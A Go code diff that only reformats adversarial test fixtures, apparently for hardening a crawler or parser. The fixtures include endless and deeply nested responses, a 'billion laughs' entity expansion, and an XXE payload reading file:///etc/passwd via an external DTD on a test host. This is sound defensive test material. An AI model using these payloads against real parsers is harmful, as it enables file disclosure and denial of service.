@@ -12,7 +12,11 @@ func documents() []Case {
 		{ID: "P02", Play: func(x *Exchange) {
 			if x.Path == "/endless" {
 				const size = 100 << 20
-				x.Write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " + itoa(size) + "\r\n\r\n<a href=/before-endless><p title='")
+				x.Write(
+					"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " + itoa(
+						size,
+					) + "\r\n\r\n<a href=/before-endless><p title='",
+				)
 				x.Repeat("<a href=/no>", size-50)
 				return
 			}
@@ -23,8 +27,16 @@ func documents() []Case {
 				x.HTML("found")
 				return
 			}
-			x.HTML("<a href='" + strings.Join(foreignLinks, "'>.</a><a href='") + "'>.</a><a href=/good>.</a><img src='data:image/gif;base64," +
-				strings.Repeat("R0lG", 50_000) + "'>")
+			x.HTML(
+				"<a href='" + strings.Join(
+					foreignLinks,
+					"'>.</a><a href='",
+				) + "'>.</a><a href=/good>.</a><img src='data:image/gif;base64," +
+					strings.Repeat(
+						"R0lG",
+						50_000,
+					) + "'>",
+			)
 		}},
 		{ID: "P06", Play: func(x *Exchange) {
 			if x.Path == "/" {
@@ -67,7 +79,13 @@ var nested = map[string]func() string{
 	},
 	"svg": func() string { return strings.Repeat("<svg><foreignObject>", 100_000) + "<a href=/end-svg>" },
 	"templates": func() string {
-		return strings.Repeat("<template>", 100_000) + strings.Repeat("</template>", 100_000) + "<a href=/end-templates>"
+		return strings.Repeat(
+			"<template>",
+			100_000,
+		) + strings.Repeat(
+			"</template>",
+			100_000,
+		) + "<a href=/end-templates>"
 	},
 	"attrs": func() string { return "<p" + strings.Repeat(" a=b", 500_000) + "><a href=/end-attrs>" },
 }
@@ -142,10 +160,14 @@ func expanders(x *Exchange) {
 		for i := 1; i < 30; i++ {
 			fmt.Fprintf(&b, "<!ENTITY l%d '%s'>", i, strings.Repeat(fmt.Sprintf("&l%d;", i-1), 10))
 		}
-		xml("<!DOCTYPE html [<!ENTITY l0 'ha'>" + b.String() + "]><html><a href='/yes-laughs'>&l29;</a><a href='/a-&l29;'/></html>")
+		xml(
+			"<!DOCTYPE html [<!ENTITY l0 'ha'>" + b.String() + "]><html><a href='/yes-laughs'>&l29;</a><a href='/a-&l29;'/></html>",
+		)
 	case "/external":
-		xml("<!DOCTYPE html PUBLIC 'x' 'http://dtd.p09.test/evil.dtd' [<!ENTITY f SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://dtd.p09.test/p.ent'>%p;]>" +
-			"<html xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='http://dtd.p09.test/included'/><a href='/yes-external'>&f;</a></html>")
+		xml(
+			"<!DOCTYPE html PUBLIC 'x' 'http://dtd.p09.test/evil.dtd' [<!ENTITY f SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://dtd.p09.test/p.ent'>%p;]>" +
+				"<html xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='http://dtd.p09.test/included'/><a href='/yes-external'>&f;</a></html>",
+		)
 	case "/namespaces":
 		var b strings.Builder
 		for i := range 50_000 {
@@ -153,7 +175,11 @@ func expanders(x *Exchange) {
 		}
 		xml("<html" + b.String() + "><n49999:a href='/yes-namespaces'/></html>")
 	case "/feed":
-		x.Page("200 OK", "Content-Type: application/rss+xml\r\n", "<!DOCTYPE rss [<!ENTITY u 'http://p09.test/no'>]><rss><item><link>/yes-feed</link></item><item><link>&u;</link></item></rss>")
+		x.Page(
+			"200 OK",
+			"Content-Type: application/rss+xml\r\n",
+			"<!DOCTYPE rss [<!ENTITY u 'http://p09.test/no'>]><rss><item><link>/yes-feed</link></item><item><link>&u;</link></item></rss>",
+		)
 	default:
 		x.HTML("found")
 	}
@@ -167,9 +193,17 @@ func recursive(x *Exchange) {
 	case "/a.css", "/b.css":
 		x.Page("200 OK", "Content-Type: text/css\r\n", "@import '/b.css'; @import url(/a.css); @import '"+x.Path+"';")
 	case "/deep.json":
-		x.Page("200 OK", "Content-Type: application/json\r\n", strings.Repeat(`{"a":[`, 100_000)+`"http://p11.test/no"`+strings.Repeat("]}", 100_000))
+		x.Page(
+			"200 OK",
+			"Content-Type: application/json\r\n",
+			strings.Repeat(`{"a":[`, 100_000)+`"http://p11.test/no"`+strings.Repeat("]}", 100_000),
+		)
 	case "/list.m3u8":
-		x.Page("200 OK", "Content-Type: application/vnd.apple.mpegurl\r\n", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n/list.m3u8\nhttp://p11.test/no\n")
+		x.Page(
+			"200 OK",
+			"Content-Type: application/vnd.apple.mpegurl\r\n",
+			"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n/list.m3u8\nhttp://p11.test/no\n",
+		)
 	default:
 		x.HTML("found")
 	}
